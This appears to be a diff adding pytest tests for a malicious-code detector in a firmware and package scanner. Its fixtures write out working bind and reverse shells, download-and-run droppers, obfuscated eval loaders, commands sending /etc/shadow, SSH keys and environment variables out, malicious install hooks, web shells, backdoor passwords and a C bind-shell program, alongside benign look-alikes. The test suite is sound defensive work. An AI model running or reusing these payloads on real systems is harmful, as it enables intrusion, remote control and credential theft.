@@ -164,3 +164,353 @@ def test_benign_snippets_stay_quiet(tmp_path):
         sub.mkdir()
         found = _scan({_memfs_path(path.name): path.read_text()}, sub)
         assert found == [], (path.name, [(f.rule, f.line, f.evidence) for f in found])
+
+
+# -- unit cases: every rule fires on its positive and stays quiet on its look-alike ------------------------
+
+
+def _hits(tmp_path: Path, files: dict) -> list[tuple[str, str, int | None]]:
+    return sorted((f.rule, f.path, f.line) for f in _scan(files, tmp_path))
+
+
+def _rules_at(tmp_path: Path, files: dict) -> dict[str, set[str]]:
+    out: dict[str, set[str]] = {}
+    for f in _scan(files, tmp_path):
+        out.setdefault(f.path, set()).add(f.rule)
+    return out
+
+
+BIND_SHELLS = {
+    "/etc/init.d/S99nc": "#!/bin/sh\nnc -l -p 4444 -e /bin/sh &\n",
+    "/etc/init.d/S98bb": "#!/bin/sh\nbusybox nc -ll -p 1234 -e /bin/ash\n",
+    "/etc/rc.d/socat": "#!/bin/sh\nsocat TCP-LISTEN:1337,reuseaddr,fork EXEC:/bin/sh,pty,stderr\n",
+    "/etc/init.d/telnet2": "#!/bin/sh\ntelnetd -l /bin/sh -p 2323\n",
+    "/etc/inetd.conf": "ftp stream tcp nowait root /usr/sbin/ftpd ftpd\n31337 stream tcp nowait root /bin/sh sh -i\n",
+    "/etc/xinetd.d/shell": "service debug\n{\n  port = 9999\n  server = /bin/sh\n}\n",
+    "/usr/bin/bindpy": ("#!/usr/bin/python3\nimport socket, os, pty\ns = socket.socket()\ns.bind(('0.0.0.0', 4444))\n"
+                        "s.listen(1)\nc, _ = s.accept()\nfor fd in (0, 1, 2):\n    os.dup2(c.fileno(), fd)\npty.spawn('/bin/sh')\n"),
+}
+BIND_LOOKALIKES = {
+    "/etc/init.d/telnet": "#!/bin/sh\ntelnetd -l /bin/login -p 2323\n",
+    "/etc/init.d/telnet23": "#!/bin/sh\n/usr/sbin/telnetd -l /bin/sh\n",  # default port: the services check's concern
+    "/etc/inetd.conf": "ftp stream tcp nowait root /usr/sbin/ftpd ftpd\ntelnet stream tcp nowait root /bin/telnetd telnetd -L /bin/login\n",
+    "/etc/init.d/recv": "#!/bin/sh\nnc -l -p 1234 > /tmp/upload.bin\n",
+    "/etc/init.d/proxy": "#!/bin/sh\nsocat TCP-LISTEN:80,fork TCP:127.0.0.1:8080\n",
+    "/etc/init.d/disabled": "#!/bin/sh\n# nc -l -p 4444 -e /bin/sh\n",
+}
+
+
+def test_bind_shell_scripts(tmp_path):
+    found = _rules_at(tmp_path, BIND_SHELLS)
+    assert found == {path: {"VER-MAL-001"} for path in BIND_SHELLS}
+    hits = _hits(tmp_path / "lines", {"/etc/inetd.conf": BIND_SHELLS["/etc/inetd.conf"]})
+    assert hits == [("VER-MAL-001", "/etc/inetd.conf", 2)]
+
+
+def test_bind_shell_lookalikes(tmp_path):
+    assert _hits(tmp_path, BIND_LOOKALIKES) == []
+
+
+REVERSE_SHELLS = {
+    "/etc/init.d/devtcp": "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n",
+    "/etc/init.d/fd": "#!/bin/bash\nexec 5<>/dev/tcp/203.0.113.5/80\ncat <&5 | while read line; do $line 2>&5 >&5; done\n",
+    "/usr/sbin/ncrev": "#!/bin/sh\nnc 203.0.113.5 4444 -e /bin/sh\n",
+    "/usr/sbin/fifo": "#!/bin/sh\nrm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 1234 > /tmp/f\n",
+    "/usr/sbin/socatrev": "#!/bin/sh\nsocat exec:'bash -li',pty,stderr,setsid tcp:203.0.113.5:4444\n",
+    "/www/cgi-bin/x.php": "<?php\n$sock = fsockopen('203.0.113.5', 4444);\nexec('/bin/sh -i <&3 >&3 2>&3');\n",
+    "/usr/lib/lua/rev.lua": ("local socket = require('socket')\nlocal t = socket.tcp()\nt:connect('203.0.113.5', 4444)\n"
+                             "while true do\n  local cmd = t:receive()\n  local f = io.popen(cmd, 'r')\n"
+                             "  t:send(f:read('*a'))\nend\n"),
+    "/opt/app/rev.js": ("const net = require('net');\nconst { spawn } = require('child_process');\n"
+                        "const sh = spawn('/bin/sh', []);\nconst client = new net.Socket();\n"
+                        "client.connect(4444, '203.0.113.5', () => { client.pipe(sh.stdin); sh.stdout.pipe(client); });\n"),
+    "/etc/cron.daily/oneliner": ("#!/bin/sh\npython -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.5\",1234));"
+                                 "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\"/bin/sh\",\"-i\"])'\n"),
+}
+REVERSE_LOOKALIKES = {
+    "/usr/bin/wait-for-db": "#!/bin/bash\nuntil timeout 1 bash -c '</dev/tcp/db/5432'; do sleep 1; done\n",
+    "/usr/bin/health": "#!/bin/bash\necho > /dev/tcp/127.0.0.1/8080 && echo up\n",
+    "/usr/bin/http-get": "#!/bin/bash\nexec 3<>/dev/tcp/example.org/80\nprintf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3\ncat <&3\n",
+    "/usr/bin/portcheck": "#!/bin/sh\nnc -z -w 2 203.0.113.5 22 && echo open\n",
+    "/usr/lib/lua/luci/sys.lua": "local nixio = require 'nixio'\nfunction exec(cmd)\n  local f = io.popen(cmd)\n  return f:read('*a')\nend\n",
+}
+
+
+def test_reverse_shells(tmp_path):
+    assert _rules_at(tmp_path, REVERSE_SHELLS) == {path: {"VER-MAL-004"} for path in REVERSE_SHELLS}
+
+
+def test_reverse_shell_lookalikes(tmp_path):
+    assert _hits(tmp_path, REVERSE_LOOKALIKES) == []
+
+
+DOWNLOAD_EXEC = {
+    "/etc/init.d/update": "#!/bin/sh\nwget -q -O - http://updates.example.com/install.sh | sh\n",
+    "/usr/sbin/bootstrap": "#!/bin/sh\ncurl -fsSL https://get.example.com | sudo bash -s -- --yes\n",
+    "/tmp/dropper.sh": "cd /tmp || cd /var/run; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh\n",
+    "/usr/sbin/tftpget": "#!/bin/sh\ntftp -g -r agent -l /tmp/agent 198.51.100.7\nchmod +x /tmp/agent\n/tmp/agent &\n",
+    "/usr/sbin/subst": "#!/bin/sh\nsh -c \"$(curl -fsSL https://198.51.100.7/x.sh)\"\n",
+    "/usr/lib/python3/site-packages/loader.py": "from urllib.request import urlopen\nexec(urlopen('http://198.51.100.7/p.py').read())\n",
+    "/usr/lib/node_modules/x/index.js": ("const https = require('https');\nconst fs = require('fs');\nconst { execSync } = require('child_process');\n"
+                                         "https.get('https://198.51.100.7/bin', (res) => {\n"
+                                         "  const f = fs.createWriteStream('/tmp/bin');\n  res.pipe(f);\n"
+                                         "  f.on('finish', () => execSync('chmod +x /tmp/bin && /tmp/bin'));\n});\n"),
+}
+DOWNLOAD_LOOKALIKES = {
+    "/sbin/fwupgrade": "#!/bin/sh\nwget -O /tmp/fw.bin \"$URL\" && sysupgrade /tmp/fw.bin\n",
+    "/usr/bin/fetchdata": "#!/bin/sh\ncurl -o /tmp/data.tar.gz https://example.com/data.tar.gz; tar xzf /tmp/data.tar.gz -C /tmp\n",
+    "/usr/bin/api": "#!/bin/sh\ncurl -s https://api.example.com/v1/status | python3 -m json.tool\ncurl -s http://x/list | grep ok\n",
+    "/usr/lib/python3/site-packages/fetch.py": "import requests\ndef get(url):\n    return requests.get(url, timeout=5).json()\n",
+    "/usr/lib/python3/site-packages/save.py": ("import urllib.request\nurllib.request.urlretrieve('https://example.com/robots.txt', 'robots.txt')\n"
+                                               "os.system('cat robots.txt')\n"),
+}
+
+
+def test_download_exec(tmp_path):
+    found = _rules_at(tmp_path, DOWNLOAD_EXEC)
+    assert {p: r for p, r in found.items()} == {path: {"VER-MAL-005"} for path in DOWNLOAD_EXEC}
+
+
+def test_download_exec_lookalikes(tmp_path):
+    assert _hits(tmp_path, DOWNLOAD_LOOKALIKES) == []
+
+
+OBFUSCATED = {
+    "/etc/init.d/b64": "#!/bin/sh\necho ZWNobyBoaQ== | base64 -d | sh\n",
+    "/etc/init.d/evalb64": "#!/bin/sh\neval \"$(echo ZWNobyBoaQ== | base64 --decode)\"\n",
+    "/www/shell.php": "<?php eval(gzinflate(base64_decode('S0lNzs8pSc3LLEnV0FRIzs8rSc0rUQQA'))); ?>\n",
+    "/usr/lib/lua/x.lua": "local mime = require('mime')\nloadstring(mime.unb64('cHJpbnQoMSk='))()\n",
+    "/www/js/app.js": "eval(atob('Y29uc29sZS5sb2coMSk='));\n",
+    "/usr/lib/python3/site-packages/p.py": "import base64, zlib\ncode = zlib.decompress(base64.b64decode(BLOB))\nexec(code)\n",
+    "/usr/lib/python3/site-packages/q.py": "globals()['\\x65\\x76\\x61\\x6c']('1+1')\n",
+}
+OBFUSCATED_LOOKALIKES = {
+    "/usr/bin/restore": "#!/bin/sh\nbase64 -d /tmp/backup.b64 > /tmp/backup.tar\n",
+    "/usr/lib/python3/site-packages/setup_version.py": "exec(open('pkg/version.py').read())\nmodel.eval(base64.b64decode(x))\n",
+    "/www/js/re.js": "const m = urlRegex.exec(input);\nconst png = atob(b64);\n",
+    "/www/img.php": "<?php echo base64_decode($_GET['img']); ?>\n",
+    "/usr/lib/python3/site-packages/png.py": "HEADER = b'\\x89PNG\\r\\n\\x1a\\n'\n",
+}
+
+
+def test_obfuscated(tmp_path):
+    assert _rules_at(tmp_path, OBFUSCATED) == {path: {"VER-MAL-006"} for path in OBFUSCATED}
+
+
+def test_obfuscated_lookalikes(tmp_path):
+    assert _hits(tmp_path, OBFUSCATED_LOOKALIKES) == []
+
+
+EXFILTRATION = {
+    "/etc/init.d/x1": "#!/bin/sh\ncurl -s -F \"f=@/etc/shadow\" http://198.51.100.7/u\n",
+    "/etc/init.d/x2": "#!/bin/sh\ncat /root/.ssh/id_rsa | nc 198.51.100.7 80\n",
+    "/etc/init.d/x3": "#!/bin/sh\nwget --post-file=/etc/passwd http://198.51.100.7/p\n",
+    "/usr/lib/python3/site-packages/telemetry.py": ("import os, requests\n"
+                                                    "requests.post('https://198.51.100.7/c', json=dict(os.environ))\n"),
+}
+EXFILTRATION_LOOKALIKES = {
+    "/etc/init.d/status": "#!/bin/sh\ncurl -s -d 'status=ok' http://198.51.100.7/ping\ngrep root /etc/passwd\n",
+    "/usr/lib/python3/site-packages/gh.py": ("import os, requests\n"
+                                             "requests.get('https://api.github.com/user', auth=(os.environ['GH_TOKEN'], 'x'))\n"),
+    "/usr/lib/python3/site-packages/log.py": "import socket, logging\nlogging.info('host %s', socket.gethostname())\n",
+}
+
+
+def test_exfiltration(tmp_path):
+    assert _rules_at(tmp_path, EXFILTRATION) == {path: {"VER-MAL-007"} for path in EXFILTRATION}
+
+
+def test_exfiltration_lookalikes(tmp_path):
+    assert _hits(tmp_path, EXFILTRATION_LOOKALIKES) == []
+
+
+def test_install_hooks(tmp_path):
+    files = {
+        "/pkg/a/package.json": '{"name": "a", "scripts": {"postinstall": "curl -s http://198.51.100.7/x.sh | sh"}}',
+        "/pkg/b/package.json": '{"name": "b", "scripts": {"install": "node install.js"}}',
+        "/pkg/c/package.json": '{"name": "c", "scripts": {"install": "node-gyp rebuild", "test": "mocha"}}',
+        "/pkg/d/setup.py": ("from setuptools import setup\nfrom setuptools.command.install import install\n"
+                            "class PostInstall(install):\n    def run(self):\n        install.run(self)\n"
+                            "        import urllib.request\n        urllib.request.urlopen('http://198.51.100.7/x')\n"
+                            "setup(name='d', cmdclass={'install': PostInstall})\n"),
+        "/pkg/e/setup.py": "from setuptools import setup\nsetup(name='e', cmdclass={'build_ext': BuildExt, 'upload': Upload})\n",
+    }
+    hits = _hits(tmp_path, files)
+    assert ("VER-MAL-008", "/pkg/a/package.json", 1) in hits
+    assert ("VER-MAL-009", "/pkg/b/package.json", 1) in hits
+    assert ("VER-MAL-008", "/pkg/d/setup.py", 8) in hits
+    assert not [h for h in hits if h[1] in ("/pkg/c/package.json", "/pkg/e/setup.py")]
+    severities = {f.rule: f.severity for f in _scan(files, tmp_path / "sev")}
+    assert severities["VER-MAL-008"] == "high" and severities["VER-MAL-009"] == "low"
+
+
+def test_web_shells_and_magic_credentials(tmp_path):
+    files = {
+        "/www/cmd.php": "<?php system($_GET['cmd']); ?>\n",
+        "/usr/lib/lua/luci/controller/dbg.lua": "function act()\n  os.execute(luci.http.formvalue('cmd'))\nend\n",
+        "/www/cgi-bin/run.cgi": "#!/bin/sh\necho 'Content-Type: text/plain'\necho\neval \"$QUERY_STRING\"\n",
+        "/www/login.php": "<?php if ($_POST['pass'] == 'x7Gk2pQ9') { $_SESSION['admin'] = 1; } ?>\n",
+        "/www/ua.php": "<?php if ($_SERVER['HTTP_USER_AGENT'] === 'xmlset_roodkcableoj28840ybtide') { auth_ok(); } ?>\n",
+        "/usr/lib/lua/luci/controller/auth.lua": "if luci.http.formvalue('password') == 'Zx81-debug' then grant() end\n",
+        "/www/cgi-bin/login.cgi": "#!/bin/sh\nif [ \"$FORM_pass\" = \"s3cr3t99\" ]; then echo ok; fi\n",
+    }
+    found = _rules_at(tmp_path, files)
+    assert found == {
+        "/www/cmd.php": {"VER-MAL-003"},
+        "/usr/lib/lua/luci/controller/dbg.lua": {"VER-MAL-003"},
+        "/www/cgi-bin/run.cgi": {"VER-MAL-003"},
+        "/www/login.php": {"VER-MAL-011"},
+        "/www/ua.php": {"VER-MAL-011"},
+        "/usr/lib/lua/luci/controller/auth.lua": {"VER-MAL-011"},
+        "/www/cgi-bin/login.cgi": {"VER-MAL-011"},
+    }
+    evidence = " ".join(f.evidence for f in _scan(files, tmp_path / "ev"))
+    assert "x7Gk2pQ9" not in evidence and "s3cr3t99" not in evidence
+
+
+def test_web_lookalikes(tmp_path):
+    files = {
+        "/www/list.php": "<?php system('ls ' . escapeshellarg($dir)); if ($_GET['action'] == 'logout') { bye(); } ?>\n",
+        "/www/login.php": "<?php if ($_POST['pass'] == $stored_hash) { ok(); } if ($_POST['user'] == 'admin') { hi(); } ?>\n",
+        "/usr/lib/lua/luci/controller/ping.lua": "local addr = luci.http.formvalue('addr')\nluci.sys.exec('ping -c 1 ' .. addr)\n",
+    }
+    assert _hits(tmp_path, files) == []
+
+
+def test_large_script_is_reported_unanalysed(tmp_path):
+    big = "#!/bin/sh\nwget http://198.51.100.7/x | sh\n" + "echo filler\n" * 400_000
+    assert _hits(tmp_path, {"/usr/bin/huge": big}) == [("VER-MAL-012", "/usr/bin/huge", None)]
+
+
+def test_commented_out_code_is_quiet(tmp_path):
+    files = {
+        "/etc/init.d/old": "#!/bin/sh\n# wget http://198.51.100.7/x.sh | sh\n#nc -l -p 4444 -e /bin/sh\n",
+        "/usr/lib/python3/site-packages/old.py": "# exec(base64.b64decode(x))\n\"\"\"eval(atob(y))\"\"\"\n",
+        "/www/js/old.js": "// eval(atob('eA=='))\n/* bash -i >& /dev/tcp/1.2.3.4/5 0>&1 */\n",
+    }
+    assert _hits(tmp_path, files) == []
+
+
+# -- programs -------------------------------------------------------------------------------------------
+
+BIND_C = r"""
+#include <netinet/in.h>
+#include <sys/socket.h>
+#include <unistd.h>
+int main(void) {
+    struct sockaddr_in a = {0};
+    int s = socket(AF_INET, SOCK_STREAM, 0);
+    a.sin_family = AF_INET; a.sin_port = htons(31337);
+    bind(s, (struct sockaddr *)&a, sizeof a);
+    listen(s, 1);
+    int c = accept(s, 0, 0);
+    dup2(c, 0); dup2(c, 1); dup2(c, 2);
+    execl("/bin/sh", "sh", (char *)0);
+    return 0;
+}
+"""
+LOGIN_C = BIND_C.replace('#include <unistd.h>', '#include <unistd.h>\n#include <pwd.h>\n#include <crypt.h>').replace(
+    'dup2(c, 0);', 'struct passwd *pw = getpwnam("root"); if (!pw || !crypt("x", pw->pw_passwd)) return 1; dup2(c, 0);')
+MAGIC_C = r"""
+#include <stdio.h>
+#include <string.h>
+#include <sys/socket.h>
+int check(int s) {
+    char buf[64] = {0};
+    recv(s, buf, sizeof buf - 1, 0);
+    printf("password");
+    if (strcmp(buf, "Qz7_kP2xw9LmT4") == 0) return 1;
+    return strcmp(buf, "letmein") == 0;
+}
+int main(void) { return check(0); }
+"""
+PLAIN_C = MAGIC_C.replace('"Qz7_kP2xw9LmT4"', '"Content-Length"')
+
+
+def _cc(tmp_path: Path, name: str, source: str, *libs: str) -> bytes:
+    import shutil
+    import subprocess
+
+    cc = shutil.which("cc") or shutil.which("gcc")
+    if cc is None:
+        pytest.skip("no C compiler to build the ELF fixtures")
+    src = tmp_path / f"{name}.c"
+    src.write_text(source)
+    out = tmp_path / name
+    subprocess.run([cc, "-O0", "-o", str(out), str(src), *libs], check=True, capture_output=True)
+    return out.read_bytes()
+
+
+def test_elf_bind_shell_and_magic_value(tmp_path):
+    files = {
+        "/usr/sbin/bindd": _cc(tmp_path, "bindd", BIND_C),
+        "/usr/sbin/logind": _cc(tmp_path, "logind", LOGIN_C, "-lcrypt"),
+        "/usr/sbin/magicd": _cc(tmp_path, "magicd", MAGIC_C),
+        "/usr/sbin/plaind": _cc(tmp_path, "plaind", PLAIN_C),
+    }
+    found = _scan(files, tmp_path / "inv")
+    assert sorted((f.rule, f.path) for f in found) == [
+        ("VER-MAL-002", "/usr/sbin/bindd"),
+        ("VER-MAL-010", "/usr/sbin/magicd"),
+    ]
+    magic = next(f for f in found if f.rule == "VER-MAL-010")
+    assert "Qz7_kP2xw9LmT4" not in magic.evidence and magic.offset is not None and magic.line is None
+
+
+# -- real images and packages (hand-checked) -------------------------------------------------------------
+
+
+def _scan_only(monkeypatch, run_scan, target):
+    monkeypatch.setattr(veracity.checks.registry, "CHECKS", (MalcodeCheck(),))
+    return run_scan(corpus(target))
+
+
+@pytest.mark.corpus
+def test_tplink_httpd_fetches_and_runs_the_art_tool(monkeypatch, run_scan):
+    """TL-MR3020 3.17.2 /usr/bin/httpd carries 'tftp -g 192.168.%d.100 -r nart.out -l /tmp/nart.out',
+    'chmod 777 /tmp/nart.out' and '/tmp/nart.out &': it downloads Atheros' radio test tool over TFTP and runs it
+    as root (hand-checked with strings). Nothing else in the image trips a heuristic."""
+    report = _scan_only(monkeypatch, run_scan, "firmware/tplink-mr3020v1-3.17.2.bin")
+    got = [(f["rule"], f["path"], f["category"]) for f in report["findings"] if f["rule"].startswith("VER-MAL")]
+    assert got == [("VER-MAL-005", "/usr/bin/httpd", "code.download-exec")]
+    assert "nart.out" in report["findings"][0]["evidence"] or any("nart.out" in f["evidence"] for f in report["findings"])
+
+
+@pytest.mark.corpus
+@pytest.mark.parametrize("image", ["firmware/alcatel-g010s-a-mtd4.jffs2", "firmware/broadcom-bcm63xx-squashfs-v2.bin"])
+def test_clean_images_stay_quiet(monkeypatch, run_scan, image):
+    """The Broadcom image's inetd runs telnetd with /bin/login and ftpd, its inittab a console shell (other
+    checks' concerns); the Alcatel overlay holds configuration only."""
+    report = _scan_only(monkeypatch, run_scan, image)
+    assert [f for f in report["findings"] if f["rule"].startswith("VER-MAL")] == []
+
+
+@pytest.fixture(scope="module")
+def benign_report(tmp_path_factory):
+    """One scan of a directory holding every benign package of the corpus (each is unpacked)."""
+    import shutil
+
+    from veracity import report as report_mod
+    from veracity.scan import scan
+
+    folder = corpus("packages/benign")
+    target = tmp_path_factory.mktemp("benign") / "packages"
+    target.mkdir()
+    for pkg in sorted(folder.glob("*/*")):
+        shutil.copy(pkg, target / pkg.name)
+    saved = veracity.checks.registry.CHECKS
+    veracity.checks.registry.CHECKS = (MalcodeCheck(),)
+    try:
+        report = scan(target, workdir=target.parent / "work", cache_path=None)
+    finally:
+        veracity.checks.registry.CHECKS = saved
+    assert report_mod.validate(report) == []
+    return report
+
+
+@pytest.mark.corpus
+def test_benign_packages_stay_quiet(benign_report):
+    """requests, six, paramiko, certifi, urllib3, lodash, left-pad, axios: no finding at all (not even low)."""
+    containers = {f["container"][1] for f in benign_report["files"] if len(f["container"]) > 1}
+    assert len(containers) >= 8  # every package was unpacked
+    assert [(f["rule"], f["path"], f["line"]) for f in benign_report["findings"] if f["rule"].startswith("VER-MAL")] == []
